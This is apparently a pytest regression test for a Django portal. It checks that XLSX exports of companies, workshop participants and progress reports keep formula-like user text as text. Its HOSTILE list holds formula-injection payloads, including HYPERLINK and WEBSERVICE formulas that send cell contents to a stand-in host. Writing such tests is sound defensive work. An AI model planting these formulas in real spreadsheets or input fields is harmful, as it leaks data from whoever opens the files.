"""Every XLSX the portal writes keeps user text as text, never a formula (issue 14).

Every user-text field of the rows each export shows (companies, workshop participants, the
progress report with grant, funders, networks and receipts) holds text that spreadsheets would
run as a formula. Each workbook is downloaded as its users get it, then read twice: by openpyxl
(the cell's stored type) and by LibreOffice headless (what a funder's spreadsheet runs and
shows). The portal writes no formula of its own, so no cell anywhere may be one.
"""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from companies.models import Company
from funding import services
from funding.models import Expenditure, Funder, ProgressReport
from networks.models import TrainingNetwork
from tests.factories import CompanyFactory, RegistrationFactory, WorkshopFactory
from tests.support import libreoffice
from workshops.models import Registration, Workshop

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&B3,"klick")',
    "=1+1",
    "+49 511 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =2+2",
    '=WEBSERVICE("http://x.example/")',
]
# Fields a user never types (generated, or chosen from a list): left as they are.
NOT_USER_TEXT = {"slug", "cancel_token", "token", "status", "kind", "sector", "legal_form",
                 "format", "level", "category", "currency", "language", "report_language",
                 "role", "size_class_stored", "enterprise_type", "channel", "email"}  # fmt: skip


def make_hostile(instance, start=0) -> list[str]:
    """Fill every free-text field of ``instance`` with formula-like text; the values used."""
    used = []
    text_fields = [
        f
        for f in instance._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not isinstance(f, models.EmailField | models.URLField)
        and not f.choices
        and f.name not in NOT_USER_TEXT
    ]
    for i, field in enumerate(text_fields):
        value = HOSTILE[(start + i) % len(HOSTILE)]
        if field.max_length and len(value) > field.max_length:
            value = HOSTILE[1][: field.max_length]
        setattr(instance, field.name, value)
        used.append(value)
    instance.save()
    return used


@pytest.fixture
def hostile_world(grant, coordinator):
    values = set()
    workshop = WorkshopFactory()
    for i, company in enumerate([CompanyFactory(), CompanyFactory()]):
        values.update(make_hostile(company, start=i))
        RegistrationFactory(workshop=workshop, company=company, company_name=company.name)
    for i, registration in enumerate(Registration.objects.filter(workshop=workshop)):
        values.update(make_hostile(registration, start=3 + i))
    values.update(make_hostile(Workshop.objects.get(pk=workshop.pk)))
    values.update(make_hostile(grant))
    for i, funder in enumerate(Funder.objects.all()):
        values.update(make_hostile(funder, start=2 + i))
    for i, network in enumerate(TrainingNetwork.objects.all()):
        values.update(make_hostile(network, start=5 + i))
    Expenditure.objects.create(
        grant=grant, date=date(2026, 5, 4), category="travel", amount=Decimal("80"),
        payee=HOSTILE[0], purpose=HOSTILE[4], receipt_reference=HOSTILE[1],
    )  # fmt: skip
    return {"workshop": workshop, "values": values}


def downloads(client, grant, workshop, capture, coordinator) -> dict[str, bytes]:
    files = {}
    for name, url in {
        "companies export": reverse("companies:export_xlsx"),
        "import template": "/companies/import/template.xlsx",
        "participants": reverse("workshops:participants_export", args=[workshop.slug, "xlsx"]),
    }.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        files[name] = b"".join(response) if response.streaming else response.content
    with capture(execute=True):
        report = services.request_progress_report(
            grant=grant,
            period_start=date(2026, 1, 1),
            period_end=date(2026, 12, 31),
            requested_by=coordinator,
        )
    report.refresh_from_db()
    assert report.status == ProgressReport.Status.READY, report.error
    response = client.get(f"/funding/reports/{report.pk}/download/", {"format": "xlsx"})
    assert response.status_code == 200
    files["progress report"] = b"".join(response) if response.streaming else response.content
    return files


def test_every_xlsx_keeps_formula_like_user_text_as_text(
    coordinator_client, coordinator, grant, hostile_world, django_capture_on_commit_callbacks
):
    files = downloads(
        coordinator_client, grant, hostile_world["workshop"], django_capture_on_commit_callbacks,
        coordinator,
    )  # fmt: skip
    assert Company.objects.count() >= 2
    seen = set()
    for name, data in files.items():
        # openpyxl: what the file stores. "f" would be a formula; strings are "s".
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.lstrip(" \t\r\n")[:1] in "=+-@":
                        assert cell.data_type == "s", (name, cell.coordinate)
                        seen.add(cell.value)
        # LibreOffice: what the funder's spreadsheet runs and shows.
        for sheet_name, rows in libreoffice.read_xlsx(data).items():
            for r, row in enumerate(rows, start=1):
                for c, cell in enumerate(row, start=1):
                    where = (name, sheet_name, r, c, cell.shown)
                    assert cell.formula == "", where
                    if cell.shown in hostile_world["values"]:
                        assert cell.type == "string", where
    # The hostile text did reach the files (else the test would prove nothing).
    expected = {v for v in hostile_world["values"] if v.strip()}
    assert HOSTILE[0] in seen
    assert len(seen & expected) >= 5, seen


def test_the_report_overview_title_is_text(
    coordinator_client, coordinator, grant, hostile_world, django_capture_on_commit_callbacks
):
    """The finding: the grant title became a live formula at Übersicht!B2."""
    grant.title = HOSTILE[0]
    grant.save()
    files = downloads(
        coordinator_client, grant, hostile_world["workshop"], django_capture_on_commit_callbacks,
        coordinator,
    )  # fmt: skip
    sheets = libreoffice.read_xlsx(files["progress report"])
    overview = next(iter(sheets.values()))
    title = overview[1][1]
    assert (title.type, title.formula, title.shown) == ("string", "", HOSTILE[0])
